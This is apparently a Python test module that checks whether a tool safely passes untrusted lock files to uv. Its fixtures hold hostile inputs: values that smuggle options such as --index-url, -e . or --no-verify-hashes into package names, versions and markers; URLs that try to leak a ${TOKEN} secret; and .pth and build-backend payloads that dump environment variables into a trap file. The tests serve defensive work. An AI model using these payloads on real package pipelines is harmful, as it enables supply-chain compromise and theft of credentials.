"""Lock files of a stranger, handed to the real uv through lastgood: nothing of a version runs, no file outside of it
is opened, no address is asked, and no secret of the operator is at hand, until a person runs something in it."""

import base64
import json
import os
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from lastgood.core.manifest import Environment
from lastgood.core.references import find_version
from lastgood.errors import FindingsError, LastgoodError, NotCarriedOutError
from lastgood.registry.view import read
from lastgood.versions.environments import ensure_environment
from lastgood.versions.manifests import read_manifest
from tests.adapters.wheels import make_wheel, use_only
from tests.builders import git
from tests.conftest import isolate
from tests.world import World

SECRET = "open-sesame"  # noqa: S105  # what the traps look for
SETUP = "import setuptools\nopen('@TRAP@/setup', 'w')\nsetuptools.setup(name='evil', version='1')\n"
PYLOCK = """\
lock-version = "1.0"
created-by = "a stranger"
[[packages]]
name = @NAME@
version = @VERSION@
marker = @MARKER@
index = "@ADDRESS@/simple"
[[packages.wheels]]
name = "tiny-1.0-py3-none-any.whl"
url = "@ADDRESS@/${TOKEN}/tiny-1.0-py3-none-any.whl"
hashes = { sha256 = "@HASH@" }
"""
UV_LOCK = """\
version = 1
requires-python = ">=3.11"
[[package]]
name = "flights"
version = "1"
source = { virtual = "." }
dependencies = [{ name = "tiny", marker = @MARKER@ }]
[[package]]
name = "tiny"
version = @VERSION@
source = @SOURCE@
wheels = [{ url = "@ADDRESS@/${TOKEN}/tiny-1.0-py3-none-any.whl", hash = "sha256:@HASH@" }]
"""
PROJECT = """\
[project]
name = "flights"
version = "1"
dependencies = ["tiny"]
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[tool.uv]
index-url = "@ADDRESS@/simple"
extra-index-url = ["@ADDRESS@/${TOKEN}"]
compile-bytecode = true
env-file = ".env"
"""
PLAIN = {
    "NAME": '"tiny"',
    "VERSION": '"1.0"',
    "MARKER": "\"os_name == 'posix'\"",
    "SOURCE": '{ registry = "@ADDRESS@/simple" }',
}


def requirements(text: str) -> dict[str, str]:
    return {"requirements.txt": text}


def pylock(**fields: str) -> dict[str, str]:
    return {"pylock.toml": filled(PYLOCK, PLAIN | fields)}


def uv_lock(**fields: str) -> dict[str, str]:
    return {"uv.lock": filled(UV_LOCK, PLAIN | fields), "pyproject.toml": PROJECT}


def filled(text: str, values: Mapping[str, str]) -> str:
    for name, value in values.items():
        text = text.replace(f"@{name}@", value)
    return text


OBEYED = {
    "index after a mark": requirements("\ufeff--extra-index-url @ADDRESS@/simple\ntiny==1.0\n"),
    "index": requirements("--index-url @ADDRESS@/simple\n--extra-index-url @ADDRESS@/${TOKEN}\ntiny==1.0\n"),
    "index beside a package": requirements("tiny==1.0 --index-url @ADDRESS@/simple --no-verify-hashes\n"),
    "links": requirements("\ufeff-f @ADDRESS@/${TOKEN}/links\n--trusted-host *\n--no-binary :all:\ntiny==1.0\n"),
    "index after a carriage return": requirements("tiny==1.0\r--index-url @ADDRESS@/simple\r"),
    "comment": requirements("# \u2028-e .\n#\x0b-e .\n# \\\ntiny==1.0\n"),
    "pylock": pylock(),
    "uv.lock": uv_lock(),
    "wrong marker": pylock(NAME='"evil"', MARKER="\"os_name == 'none'\"") | {"requirements.txt": "-e .\n"},
}
"""Locks that a stranger made, and that yet name packages: these are installed, from where the user says."""

REFUSED = {
    "editable after a mark": requirements("\ufeff-e .\n"),
    "editable": requirements("tiny==1.0\n-e .\n"),
    "directory": requirements("."),
    "editable after a line separator": requirements("tiny==1.0\u2028-e ."),
    "editable after a form feed": requirements("tiny==1.0\x0c-e ."),
    "editable after nothing": requirements("\x00-e .\n"),
    "two marks": requirements("\ufeff\ufeff-e .\n"),
    "include after a mark": requirements("\ufeff-r @OUTSIDE@\n"),
    "include of a mark": {**requirements("-r more.txt\n"), "more.txt": "\ufeff-r @OUTSIDE@\n"},
    "constraint": requirements("tiny\n-c @OUTSIDE@\n"),
    "include by address": requirements("-r @ADDRESS@/${TOKEN}.txt\n"),
    "file": requirements("tiny @ file://@WHEELS@/tiny-1.0-py3-none-any.whl\n"),
    "path": requirements("tiny @ @WHEELS@/tiny-1.0-py3-none-any.whl\n"),
    "repository": requirements("evil @ git+@ADDRESS@/evil.git\n"),
    "address": requirements("tiny @ @ADDRESS@/tiny-1.0-py3-none-any.whl#sha256=@HASH@\n"),
    "variable in an address": requirements("tiny @ @ADDRESS@/${TOKEN}/tiny-1.0-py3-none-any.whl#sha256=@HASH@\n"),
    "variable in a host": requirements("tiny @ https://${TOKEN}.invalid/tiny-1.0-py3-none-any.whl#sha256=@HASH@\n"),
    "variable in a constraint": {
        **requirements("tiny\n-c more.txt\n"),
        "more.txt": "tiny @ @ADDRESS@/${TOKEN}/tiny-1.0-py3-none-any.whl\n",
    },
    "bare address": requirements("@ADDRESS@/${TOKEN}/tiny-1.0-py3-none-any.whl\n"),
    "wrong hash": requirements(f"tiny==1.0 --hash=sha256:{'0' * 64}\n"),
    "pylock, option as a name": pylock(NAME='"--index-url=@ADDRESS@/simple"'),
    "pylock, editable as a name": pylock(NAME='"\\ufeff-e .#"'),
    "pylock, line in a name": pylock(NAME='"tiny==1.0\\n--index-url @ADDRESS@/simple\\ntiny"'),
    "pylock, address as a name": pylock(NAME='"tiny @ @ADDRESS@/${TOKEN}/tiny-1.0-py3-none-any.whl #"'),
    "pylock, line in a version": pylock(VERSION='"1.0\\n--index-url @ADDRESS@/simple"'),
    "pylock, option in a version": pylock(VERSION='"1.0 --no-verify-hashes"'),
    "pylock, line in a marker": pylock(MARKER="\"os_name == 'posix'\\n-e .\""),
    "pylock, line in a hash": pylock() | {"pylock.toml": pylock()["pylock.toml"].replace("@HASH@", "@HASH@\\n-e .")},
    "uv.lock, line in a version": uv_lock(VERSION='"1.0\\n--index-url @ADDRESS@/simple"'),
    "uv.lock, line in a marker": uv_lock(MARKER="\"os_name == 'posix'\\n-e .\""),
    "uv.lock, editable": uv_lock(SOURCE='{ editable = "lib" }'),
    "uv.lock, directory": uv_lock(SOURCE='{ directory = "@OUTSIDE@" }'),
    "uv.lock, path": uv_lock(SOURCE='{ path = "@WHEELS@/tiny-1.0-py3-none-any.whl" }'),
    "uv.lock, repository": uv_lock(SOURCE='{ git = "@ADDRESS@/${TOKEN}.git#0000" }'),
    "uv.lock, address": uv_lock(SOURCE='{ url = "@ADDRESS@/${TOKEN}/tiny-1.0-py3-none-any.whl" }'),
}
"""Locks that name something else than packages, by any way."""


@dataclass
class Range:
    """Where the locks are tried: a project with a released version, an address that is listened to, a trap."""

    world: World
    wheels: Path
    trap: Path
    asked: list[str]
    values: dict[str, str]

    def build(self, files: Mapping[str, str]) -> Path | None:
        """The environment of a commit with these files."""
        code = {"setup.py": SETUP, "backend.py": SETUP, "lib/setup.py": SETUP, ".env": f"TOKEN={SECRET}\n", **files}
        git(self.world.root, "rm", "-q", "--ignore-unmatch", "requirements.txt", "pylock.toml", "uv.lock")
        for path, text in code.items():
            self.world.project.put(path, filled(text, self.values))
        commit = self.world.project.commit("Attack")
        project = self.world.open()
        manifest = read_manifest(project, *find_version(read(project, fetch=False).registry, "flights@v1.0.0"))
        lock = next(name for name in ("uv.lock", "pylock.toml", "requirements.txt") if name in files)
        pins = Environment(manifest.environment.python, lock, None)
        return ensure_environment(project, replace(manifest, commit=commit, environment=pins))

    def require_untouched(self) -> None:
        assert self.asked == []
        assert [*self.trap.iterdir()] == []
        places = [path.name for path in (self.world.place / "environments").glob("*")]
        assert all((self.world.place / "environments" / name / "lastgood.json").exists() for name in places)


@pytest.fixture(scope="module")
def _listening() -> Iterator[tuple[str, list[str]]]:
    """An address of this machine, and every request that comes."""
    asked: list[str] = []

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_POST = do_GET  # noqa: N815  # the names of http.server

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Ear) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


@pytest.fixture(scope="module")
def _world(_blank: object, session_home: Path, tmp_path_factory: pytest.TempPathFactory) -> World:
    with pytest.MonkeyPatch.context() as patch:
        isolate(patch, session_home)
        world = World(_blank.copy(tmp_path_factory.mktemp("locks")))  # type: ignore[attr-defined]  # a Project
        world.release("v1.0.0", model="model")
        return world


@pytest.fixture
def range_(
    _world: World, _listening: tuple[str, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Range]:
    wheels, trap = tmp_path / "packages/wheels", tmp_path / "trap"
    trap.mkdir()
    use_only(wheels, monkeypatch)
    digest = make_wheel(wheels, "1.0")
    (outside := tmp_path / "outside.txt").write_text("tiny==1.0\n")
    for name in ("TOKEN", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, SECRET)
    address, asked = _listening
    asked.clear()
    values = {"ADDRESS": address, "HASH": digest, "WHEELS": wheels, "OUTSIDE": outside, "TRAP": trap}
    yield Range(_world, wheels, trap, asked, {name: str(value) for name, value in values.items()})
    assert SECRET not in "".join(asked)


@pytest.mark.parametrize("name", OBEYED)
def test_of_a_lock_the_packages_alone_are_obeyed(range_: Range, name: str) -> None:
    environment = range_.build(OBEYED[name])
    assert environment is not None
    range_.require_untouched()
    found = {path.name.partition("-")[0] for path in environment.glob("lib/*/site-packages/*.dist-info")}
    assert found == (set() if name == "wrong marker" else {"tiny"})


@pytest.mark.parametrize("name", REFUSED)
def test_a_lock_that_names_anything_else_is_refused_before_uv_sees_it(range_: Range, name: str) -> None:
    before = {path.name for path in (range_.world.place / "environments").glob("*")}
    with pytest.raises((FindingsError, NotCarriedOutError)) as caught:
        range_.build(REFUSED[name])
    assert isinstance(caught.value, FindingsError) or name == "wrong hash"
    assert caught.value.unchanged
    assert SECRET not in str(caught.value)
    assert {path.name for path in (range_.world.place / "environments").glob("*")} == before
    range_.require_untouched()


PTH = "import os, json; open('@TRAP@/pth', 'w').write(json.dumps(dict(os.environ)))\n"
REPLACING = {
    "settings": ("tiny-2.0.data/data/pyvenv.cfg", "home = @TRAP@\n"),
    "data": ("tiny-2.0.data/data/bin/python", "#!/bin/sh\ntouch @TRAP@/python\n"),
    "script": ("tiny-2.0.data/scripts/python3", "#!/bin/sh\ntouch @TRAP@/python\n"),
    "entry": ("tiny-2.0.dist-info/entry_points.txt", "[console_scripts]\npython = tiny:main\n"),
}


def add_to_wheel(wheels: Path, name: str, text: str) -> None:
    """Make tiny 2.0 with one more file, which its RECORD lists."""
    make_wheel(wheels, "2.0")
    path = wheels / "tiny-2.0-py3-none-any.whl"
    with zipfile.ZipFile(path) as old:
        files = {info: old.read(info).decode() for info in old.namelist() if info != name}
    digest = base64.urlsafe_b64encode(sha256(text.encode()).digest()).rstrip(b"=").decode()
    files["tiny-2.0.dist-info/RECORD"] = (
        "".join(
            line + "\n" for line in files["tiny-2.0.dist-info/RECORD"].splitlines() if not line.startswith(f"{name},")
        )
        + f"{name},sha256={digest},{len(text)}\n"
    )
    with zipfile.ZipFile(path, "w") as wheel:
        for info, content in {**files, name: text}.items():
            wheel.writestr(zipfile.ZipInfo(info, (2020, 1, 1, 0, 0, 0)), content)


def test_a_pth_file_of_a_wheel_runs_in_exec_and_not_while_its_environment_is_built(
    range_: Range, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UV_COMPILE_BYTECODE", "1")
    add_to_wheel(range_.wheels, "tiny.pth", filled(PTH, range_.values))
    environment = range_.build(requirements("tiny==2.0\n"))
    assert environment is not None
    range_.require_untouched()
    assert [*environment.rglob("tiny*.pyc")]  # compiled, by a Python that does not know the environment
    subprocess.run([environment / "bin/python", "-c", "import tiny"], check=True)
    assert json.loads((range_.trap / "pth").read_text())["TOKEN"] == SECRET  # the trap works


@pytest.mark.parametrize("name", REPLACING)
def test_a_wheel_that_replaces_the_interpreter_is_refused_and_nothing_of_it_runs(range_: Range, name: str) -> None:
    place, text = REPLACING[name]
    add_to_wheel(range_.wheels, place, filled(text, range_.values))
    with pytest.raises(NotCarriedOutError, check=lambda error: error.unchanged):
        range_.build(requirements(f"tiny==2.0 # {name}\n"))
    range_.require_untouched()


def test_what_starts_while_an_environment_is_built_has_no_secret_and_nothing_of_the_project(
    range_: Range, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tools := tmp_path / "tools").mkdir()
    python = tools / f"python{sys.version_info.major}.{sys.version_info.minor}"
    python.write_text(f'#!/bin/sh\n(pwd; env) >> {tools}/seen\nexec {sys.executable} "$@"\n')
    python.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:.:{os.environ['PATH']}")
    monkeypatch.setenv("PYTHONPATH", str(range_.world.root))
    monkeypatch.chdir(range_.world.root)
    (range_.world.root / "json.py").write_text(filled("open('@TRAP@/json', 'w')\n", range_.values))
    assert range_.build(requirements("tiny==1.0 # seen\n"))
    range_.require_untouched()
    seen = (tools / "seen").read_text()
    assert SECRET not in seen
    assert "PYTHONPATH" not in seen
    assert str(range_.world.root) not in [*seen.splitlines(), *seen.replace(":", "\n").splitlines()]


def test_a_package_that_may_be_built_gets_no_secret_of_the_operator(
    range_: Range, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = tmp_path / "tiny-3.0"
    make_wheel(source, "3.0")
    (source / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: tiny\nVersion: 3.0\n")
    (source / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "tiny"\nversion = "3.0"\n'
    )
    (source / "backend.py").write_text(
        "import glob, json, os, shutil\n"
        f"open('{range_.trap}/built', 'w').write(json.dumps(dict(os.environ)))\n"
        "def build_wheel(target, *_):\n    return os.path.basename(shutil.copy(glob.glob('*.whl')[0], target))\n"
    )
    subprocess.run(["tar", "czf", range_.wheels / "tiny-3.0.tar.gz", "-C", tmp_path, "tiny-3.0"], check=True)
    monkeypatch.setenv("UV_PUBLISH_TOKEN", SECRET)
    with pytest.raises(LastgoodError):
        range_.build(requirements("tiny==3.0\n"))
    range_.require_untouched()
    (range_.world.root / "lastgood.toml").write_text("[environment]\nbuild = true\n")
    try:
        assert range_.build(requirements("tiny==3.0\n"))
    finally:
        (range_.world.root / "lastgood.toml").unlink()
    assert SECRET not in (range_.trap / "built").read_text()
